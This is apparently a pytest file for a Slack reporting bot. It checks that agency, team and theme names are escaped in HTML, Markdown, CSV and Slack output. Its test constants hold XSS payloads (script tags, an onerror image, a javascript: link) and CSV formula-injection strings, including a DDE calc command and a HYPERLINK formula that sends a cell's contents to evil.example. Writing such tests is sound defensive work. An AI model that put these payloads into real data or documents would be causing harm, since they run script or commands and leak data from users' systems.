"""Names from the organisation file and the question set that would run as script, markup or a
spreadsheet formula: every format of the report shows them as text, and runs nothing.

Agency and team names go in the database as an organisation file would put them; the category
names (themes) are a question set's titles, put in the report's labels."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import pytest
from sqlmodel import select

from bot.clock import jobs
from bot.render import Renderer
from bot.report import formats
from bot.report.counts import Report
from bot.report.period import Period
from bot.report.service import make_report
from bot.slack.dialect import SLACK
from storage.db import SessionFactory, transaction
from storage.models import Agency, OutboxMessage, Person
from tests.clock.helpers import context_at, rendered
from tests.report import seed
from tests.slack.conftest import LEAD, SlackDriver, ephemeral_text

SCRIPT = '<script>alert("x")</script> Children\'s Services'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Police")'
TEAM = '"><img src=x onerror=alert(1)>'  # a supervisor's ID, as the team is named
THEMES = [
    "[click](javascript:alert(1))",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<b onmouseover=alert(1)>bold</b>",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NOVEMBER = datetime(2026, 11, 9, 9, 0, tzinfo=UTC)


def hostile_organisation(new_session: SessionFactory) -> None:
    seed.organisation(new_session)
    with transaction(new_session) as session:
        for agency_id, name in (("csc", SCRIPT), ("police", FORMULA)):
            agency = session.get(Agency, agency_id)
            assert agency is not None
            agency.name = name
            session.add(agency)
        practitioner = session.get(Person, seed.PRACTITIONERS["csc"])
        assert practitioner is not None
        practitioner.supervisor_id = TEAM
        session.add(practitioner)


@pytest.fixture
def report(new_session: SessionFactory) -> Report:
    hostile_organisation(new_session)
    seed.reflections(new_session, agency="csc", count=8, start=NOVEMBER)
    seed.reflections(new_session, agency="police", count=6, start=NOVEMBER)
    made = make_report(
        new_session,
        period=Period(date(2026, 11, 1), date(2026, 11, 30)),
        zone=ZoneInfo("Europe/London"),
        now=datetime(2026, 12, 3, 10, 0, tzinfo=UTC),
        threshold=5,
    )
    themes = dict(zip(made.labels.themes, THEMES * 3, strict=False))
    made.labels = replace(made.labels, themes=themes)
    return made


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_shows_hostile_names_as_text(report: Report) -> None:
    page = formats.html(report)
    parsed = _Page()
    parsed.feed(page)
    assert all(tag not in parsed.tags for tag in ("script", "img", "b", "a"))
    assert not [name for name in parsed.attributes if name.startswith("on")]
    text = "".join(parsed.text)
    # Shown, escaped, where a reader sees them: title, headings, columns, rows and chart notes.
    assert text.count(SCRIPT) >= 8 and FORMULA in text
    assert f"Team of {TEAM}" in text
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    for theme in ("[click](javascript:alert(1))", "<b onmouseover=alert(1)>bold</b>"):
        assert theme in text
    # The charts' labels are drawn as paths; their text is only in escaped comments.
    charts = re.findall(r"<svg.*?</svg>", page, re.DOTALL)
    assert len(charts) == 2 and all("<b " not in chart for chart in charts)


def test_markdown_shows_hostile_names_as_text(report: Report) -> None:
    text = formats.markdown(report)
    assert SCRIPT not in text and "](javascript" not in text
    assert not re.search(r"(?<!\\)[<>\[\]]", text), "every <, >, [ and ] is escaped"
    assert '\\<script\\>alert("x")\\</script\\> Children\'s Services' in text
    assert '"\\>\\<img src=x onerror=alert(1)\\>' in text
    assert "\\[click\\]\\(javascript:alert(1))" in text
    # The tables still have as many cells in every row as in their heading.
    for block in re.findall(r"(?:^\|.*\n)+", text, re.MULTILINE):
        rows = [re.split(r"(?<!\\)\|", line) for line in block.splitlines()]
        assert len({len(row) for row in rows}) == 1


def test_csv_runs_no_formula_and_keeps_numbers(report: Report) -> None:
    rows = list(csv.reader(io.StringIO(formats.csv_table(report))))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert re.fullmatch(r"-?\d+", cell), cell
    assert "'" + FORMULA in cells
    for theme in THEMES:
        expected = "'" + theme if theme.startswith(FORMULA_START) else theme
        assert expected in cells, theme
    values = [row[5] for row in rows[1:] if row[5][0].isdigit()]
    assert values and all(int(value) >= 0 for value in values)
    assert ["2026-11-01/2026-11-30", "'" + FORMULA, "", "Reflections", "completed", "6"] in rows


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        ("12", "12"),
        ("fewer than 5", "fewer than 5"),
        ("a=b", "a=b"),
    ],
)
def test_a_csv_cell_that_could_run_is_text(cell: str, written: str) -> None:
    assert formats.csv_cell(cell) == written


def test_the_slack_short_version_is_inert(report: Report) -> None:
    text = Renderer(SLACK).render("report/short.j2", short=formats.short(report))
    assert "<" not in text and ">" not in text
    assert "&lt;script&gt;" not in text  # the partnership's short version names no agency
    one = replace(formats.short(report), scope=SCRIPT)
    assert '&lt;script&gt;alert("x")&lt;/script&gt; Children\'s Services' in Renderer(SLACK).render(
        "report/short.j2", short=one
    )


def test_the_monthly_message_to_a_lead_is_inert(new_session: SessionFactory) -> None:
    hostile_organisation(new_session)
    seed.reflections(
        new_session, agency="csc", count=9, start=datetime(2026, 12, 7, 10, tzinfo=UTC)
    )
    assert jobs.monthly_report(context_at(new_session, "2027-01-04T09:10")) == 2
    with new_session() as session:
        messages = session.exec(select(OutboxMessage)).all()
    texts = [
        "\n".join(b["text"]["text"] for b in rendered(m)["blocks"] if b["type"] == "section")
        for m in messages
    ]
    csc = next(t for t in texts if "Children" in t)
    assert '&lt;script&gt;alert("x")&lt;/script&gt; Children\'s Services' in csc
    assert not any("<" in text for text in texts)


def test_report_in_slack_names_a_hostile_agency_as_text(slack: SlackDriver) -> None:
    with transaction(slack.new_session) as session:
        agency = session.get(Agency, "csc")
        assert agency is not None
        agency.name = SCRIPT
        session.add(agency)
        session.add(
            Person(person_id=seed.PRACTITIONERS["csc"], agency_id="csc", role="practitioner")
        )
    seed.reflections(
        slack.new_session, agency="csc", count=6, start=datetime(2026, 10, 6, 9, tzinfo=UTC)
    )
    reply = ephemeral_text(slack.command(LEAD, "report"))
    assert '&lt;script&gt;alert("x")&lt;/script&gt; Children\'s Services' in reply
    assert "<script>" not in reply
